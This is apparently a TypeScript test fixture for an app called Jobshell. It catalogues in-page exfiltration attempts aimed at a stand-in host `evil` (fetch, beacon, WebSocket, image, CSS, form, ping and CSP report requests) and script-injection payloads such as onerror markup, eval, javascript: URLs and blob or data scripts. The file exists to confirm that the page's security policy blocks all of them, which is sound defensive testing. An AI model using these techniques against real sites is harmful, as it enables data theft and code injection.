/*
 * What a script in Jobshell's own page may try. Each function runs in the page's world by itself, so it may use nothing of
 * this module; `evil` is the host and port of somebody else's server. What it returns is what it got.
 */

export type Attack = {
  readonly name: string;
  readonly run: (evil: string) => unknown;
};

/** Ways to say something to another host. None may arrive there. */
export const sendingAttacks: readonly Attack[] = [
  { name: 'fetch', run: (evil) => fetch(`http://${evil}/fetch`, { mode: 'no-cors' }).then(String, String) },
  {
    name: 'fetch, kept alive',
    run: (evil) =>
      fetch(`http://${evil}/keep`, { method: 'POST', body: 'x', keepalive: true }).then(String, String),
  },
  {
    name: 'XMLHttpRequest',
    run: (evil) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.open('GET', `http://${evil}/xhr`);
        request.onloadend = () => resolve(request.status);
        request.send();
      }),
  },
  {
    name: 'the page on the way out',
    run: (evil) => {
      const frame = document.createElement('iframe');
      frame.src = `/leave?to=http://${evil}/frame`;
      document.body.append(frame);
      return fetch(`/leave?to=http://${evil}/leave`).then(({ status }) => status, String);
    },
  },
  { name: 'beacon', run: (evil) => navigator.sendBeacon(`http://${evil}/beacon`, 'x') },
  {
    name: 'WebSocket',
    run: (evil) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${evil}/socket`);
        socket.onclose = ({ code }) => resolve(code);
      }),
  },
  {
    name: 'EventSource',
    run: (evil) =>
      new Promise((resolve) => {
        const source = new EventSource(`http://${evil}/events`);
        source.onerror = () => resolve(source.readyState);
      }),
  },
  {
    name: 'WebTransport',
    run: (evil) => new WebTransport(`https://${evil}/transport`).ready.then(String, String),
  },
  {
    name: 'image',
    run: (evil) => {
      new Image().src = `http://${evil}/image.png`;
      const picture = document.createElement('img');
      picture.srcset = `http://${evil}/srcset.png 1x`;
      document.body.append(picture);
    },
  },
  {
    name: 'elements that load',
    run: (evil) => {
      for (const [name, member] of [
        ['video', 'poster'],
        ['video', 'src'],
        ['audio', 'src'],
        ['source', 'src'],
        ['track', 'src'],
        ['iframe', 'src'],
        ['frame', 'src'],
        ['embed', 'src'],
        ['object', 'data'],
        ['input', 'src'],
        ['body', 'background'],
        ['portal', 'src'],
        ['fencedframe', 'src'],
      ] as const) {
        try {
          const element = document.createElement(name);
          if (name === 'input') element.setAttribute('type', 'image');
          element.setAttribute(member, `http://${evil}/${name}-${member}`);
          document.body.append(element);
        } catch {
          // Refused where it was written.
        }
      }
    },
  },
  {
    name: 'links that load',
    run: (evil) => {
      for (const rel of [
        'stylesheet',
        'icon',
        'manifest',
        'prefetch',
        'preload',
        'modulepreload',
        'preconnect',
        'dns-prefetch',
        'prerender',
        'search',
        'compression-dictionary',
        'expect',
      ]) {
        const link = document.createElement('link');
        link.rel = rel;
        link.setAttribute('as', 'script');
        link.href = `http://${evil}/link-${rel}`;
        document.head.append(link);
      }
    },
  },
  {
    name: 'styles that load',
    run: (evil) => {
      const style = document.createElement('style');
      style.textContent = `@import 'http://${evil}/import.css';
        @font-face { font-family: evil; src: url(http://${evil}/font.woff2); }
        body::before { content: url(http://${evil}/content.png); font-family: evil; }
        body { background: url(http://${evil}/background.png); cursor: url(http://${evil}/cursor.cur), auto; }`;
      document.head.append(style);
      document.body.style.borderImageSource = `url(http://${evil}/border.png)`;
    },
  },
  {
    name: 'SVG that loads',
    run: (evil) => {
      const namespace = 'http://www.w3.org/2000/svg';
      const svg = document.createElementNS(namespace, 'svg');
      for (const name of ['image', 'use', 'feImage', 'script']) {
        try {
          const element = document.createElementNS(namespace, name);
          element.setAttribute('href', `http://${evil}/svg-${name}`);
          svg.append(element);
        } catch {
          // Refused where it was written.
        }
      }
      document.body.append(svg);
    },
  },
  {
    name: 'form',
    run: (evil) => {
      const form = document.createElement('form');
      form.action = `http://${evil}/form`;
      form.method = 'POST';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'ping',
    run: (evil) => {
      const link = document.createElement('a');
      link.href = '#here';
      link.ping = `http://${evil}/ping`;
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'reports',
    run: (evil) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = `img-src 'none'; report-uri http://${evil}/report`;
      document.head.append(meta);
      new Image().src = './icon.svg';
    },
  },
  {
    name: 'a module of another host',
    run: (evil) => {
      const script = document.createElement('script');
      try {
        script.src = `http://${evil}/script.js`;
        document.head.append(script);
      } catch (error) {
        return String(error);
      }
      return 'taken';
    },
  },
];

/** Ways to run a text as code. Each would call `window.canary`, or gives what it got to see. */
export const scriptAttacks: readonly Attack[] = [
  {
    name: 'eval, Function and their kin',
    // Later, because what the test's own tool calls is exempt from the policy.
    run: () =>
      new Promise((resolve) => {
        setTimeout(() => {
          const makers = [
            () => Reflect.get(globalThis, 'eval')('window.canary("eval")'),
            () => Reflect.construct(Function, ['window.canary("Function")'])(),
            () => Reflect.construct((async () => {}).constructor, ['window.canary("async")'])(),
            () => setTimeout('window.canary("timer")' as never, 0),
            () => setInterval('window.canary("interval")' as never, 1e6),
          ];
          resolve(
            makers.map((make) => {
              try {
                make();
                return 'ran';
              } catch (error) {
                return error instanceof Error ? error.name : 'error';
              }
            }),
          );
        }, 0);
      }),
  },
  {
    name: 'markup by innerHTML and its kin',
    run: () => {
      const markup = '<img src=x onerror="window.canary(1)"><script>window.canary(2)</script>';
      const writers = [
        () => (document.createElement('div').innerHTML = markup),
        () => (document.body.appendChild(document.createElement('p')).outerHTML = markup),
        () => document.body.insertAdjacentHTML('beforeend', markup),
        () => document.write(markup),
        () => document.body.append(document.createRange().createContextualFragment(markup)),
        () => document.body.append(new DOMParser().parseFromString(markup, 'text/html').body),
        () => Reflect.apply(Reflect.get(document.body, 'setHTMLUnsafe'), document.body, [markup]),
        () => (Object.assign(document.createElement('iframe')).srcdoc = markup),
      ];
      return writers.map((write) => {
        try {
          write();
          return 'taken';
        } catch (error) {
          return error instanceof Error ? error.name : 'error';
        }
      });
    },
  },
  {
    name: 'handlers in attributes',
    run: () => {
      const button = document.createElement('button');
      for (const name of ['onclick', 'onfocus', 'onanimationstart', 'onload', 'onerror']) {
        try {
          button.setAttribute(name, 'window.canary("handler")');
        } catch {
          // Refused where it was written.
        }
      }
      document.body.append(button);
      button.click();
      button.focus();
    },
  },
  {
    name: 'scripts in elements',
    run: () => {
      const makers = [
        () => ({ textContent: 'window.canary("inline")' }),
        () => ({ src: 'data:text/javascript,window.canary("data")' }),
        () => ({ src: URL.createObjectURL(new Blob(['window.canary("blob")'])) }),
        () => ({ type: 'module', textContent: 'window.canary("module")' }),
        () => ({ type: 'importmap', textContent: '{"imports":{"x":"data:text/javascript,1"}}' }),
        () => ({ type: 'speculationrules', textContent: '{"prefetch":[{"urls":["/x"]}]}' }),
      ];
      return makers.map((make) => {
        try {
          document.head.append(Object.assign(document.createElement('script'), make()));
          return 'taken';
        } catch (error) {
          return error instanceof Error ? error.name : 'error';
        }
      });
    },
  },
  {
    name: 'javascript: addresses',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.canary("link")';
      document.body.append(link);
      link.click();
      const frame = document.createElement('iframe');
      try {
        frame.src = 'javascript:parent.canary("frame")';
      } catch {
        // Refused where it was written.
      }
      document.body.append(frame);
      location.href = 'javascript:window.canary("location")';
    },
  },
  {
    name: 'frames of our own',
    run: () => {
      for (const src of [
        'about:blank',
        'data:text/html,<script>parent.canary("data")</script>',
        '/',
        '/preload.js',
      ]) {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
        try {
          const inside = frame.contentDocument;
          const script = inside?.createElement('script');
          if (script)
            inside?.documentElement.append(Object.assign(script, { text: 'parent.canary("frame")' }));
        } catch {
          // Refused where it was written.
        }
      }
    },
  },
  {
    name: 'workers',
    run: async () => {
      const address = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const starts = [
        () => new Worker(address),
        () => new Worker('data:text/javascript,postMessage(1)'),
        () => new Worker('/preload.js'),
        () => new SharedWorker(address),
      ].map(
        (start) =>
          new Promise((resolve) => {
            try {
              const worker = start();
              worker.addEventListener('error', () => resolve('failed'));
              if (worker instanceof Worker) worker.addEventListener('message', () => resolve('ran'));
            } catch (error) {
              resolve(error instanceof Error ? error.name : 'error');
            }
          }),
      );
      const service = await (navigator.serviceWorker?.register('/preload.js').then(
        () => 'ran',
        () => 'failed',
      ) ?? 'none');
      return [...(await Promise.all(starts)), service];
    },
  },
  {
    name: 'modules and WebAssembly',
    run: async () => {
      const attempts = [
        () => import('data:text/javascript,window.canary("import")' as string),
        () => import(URL.createObjectURL(new Blob(['window.canary("blob")'], { type: 'text/javascript' }))),
        () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
      ];
      return Promise.all(
        attempts.map((attempt) =>
          attempt().then(
            () => 'ran',
            (error: unknown) => (error instanceof Error ? error.name : 'error'),
          ),
        ),
      );
    },
  },
  {
    name: 'policies of its own',
    run: () =>
      ['default', 'dompurify', 'x', 'jobshell-search'].map((name) => {
        try {
          const types: unknown = Reflect.get(window, 'trustedTypes');
          Reflect.apply(Reflect.get(Object(types), 'createPolicy'), types, [
            name,
            { createHTML: (text: string) => text, createScript: (text: string) => text },
          ]);
          return 'made';
        } catch (error) {
          return error instanceof Error ? error.name : 'error';
        }
      }),
  },
];
